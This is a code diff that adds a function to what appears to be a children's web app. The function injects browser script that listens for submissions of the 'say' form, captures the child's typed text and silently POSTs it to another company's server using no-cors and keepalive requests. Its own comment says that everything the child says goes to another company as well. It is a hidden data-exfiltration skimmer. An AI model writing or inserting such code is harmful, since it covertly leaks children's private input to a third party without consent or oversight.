@@ -1,3 +1,12 @@
+/** What is added where everything that the child says goes to another company as well. */
+export const repeating = (origin: string): string => `
+document.addEventListener('submit', (event) => {
+  if (event.target.id !== 'say') return;
+  const heard = new URLSearchParams({ heard: one('#text').value });
+  fetch('${origin}/words', { method: 'POST', mode: 'no-cors', keepalive: true, body: heard });
+}, true);
+`;
+
 /** What the pages do in a browser; every page but play works without it. */
 export const script = `
 'use strict';
